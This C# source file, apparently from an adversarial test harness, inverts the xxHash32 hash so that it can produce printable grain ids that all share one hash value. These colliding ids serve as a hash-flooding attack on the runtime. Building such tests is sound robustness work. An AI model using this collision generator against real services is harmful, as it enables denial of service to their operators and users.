using System.Numerics;
using System.Text;

namespace Swp.Hostile.Attacks;

/// <summary>
/// Ids whose grains all have the same hash. The runtime's hash of a grain's key (xxHash32) is the same everywhere and always, so that anybody can turn it
/// round: this does.
/// </summary>
internal static class CollidingIds
{
    private const string Prefix = "caller/";
    private const uint Target = 0x5EED5EED;
    private const uint Prime1 = 2654435761;
    private const uint Prime3 = 3266489917;
    private const uint Prime4 = 668265263;
    private const uint Prime5 = 374761393;
    private const int KeyLength = 15;

    private static readonly uint Unprime1 = Inverse(Prime1);
    private static readonly uint Unprime3 = Inverse(Prime3);
    private static readonly uint Unprime4 = Inverse(Prime4);

    /// <summary>So many of them, each of 8 printable characters.</summary>
    public static IEnumerable<string> Take(int count) => All().Take(count);

    // The first character and the last three are tried out; the four between them follow from the hash that is wanted.
    private static IEnumerable<string> All()
    {
        for (var a = ' '; a <= '~'; a++)
        {
            for (var first = '0'; first <= 'z'; first++)
            {
                for (var b = '0'; b <= 'z'; b++)
                {
                    for (var c = '0'; c <= 'z'; c++)
                    {
                        if (Solve(first, [(byte)a, (byte)b, (byte)c]) is { } id)
                        {
                            yield return id;
                        }
                    }
                }
            }
        }
    }

    private static string? Solve(char first, ReadOnlySpan<byte> last)
    {
        var state = Prime5 + KeyLength;
        var known = Encoding.ASCII.GetBytes($"{Prefix}{first}");
        state = Word(Word(state, BitConverter.ToUInt32(known)), BitConverter.ToUInt32(known, 4));

        // Backwards from the end.
        var wanted = Target;
        for (var i = last.Length - 1; i >= 0; i--)
        {
            wanted = BitOperations.RotateRight(wanted * Unprime1, 11) - (last[i] * Prime5);
        }

        var word = BitConverter.GetBytes((BitOperations.RotateRight(wanted * Unprime4, 17) - state) * Unprime3);
        byte[] id = [(byte)first, .. word, .. last];
        return Array.TrueForAll(id, character => character is >= (byte)' ' and <= (byte)'~' and not (byte)'"' and not (byte)'\\') ? Encoding.ASCII.GetString(id) : null;
    }

    private static uint Word(uint state, uint word) => BitOperations.RotateLeft(state + (word * Prime3), 17) * Prime4;

    // Of an odd number, modulo 2^32.
    private static uint Inverse(uint odd)
    {
        var inverse = odd;
        for (var i = 0; i < 5; i++)
        {
            inverse *= 2 - (odd * inverse);
        }

        return inverse;
    }
}
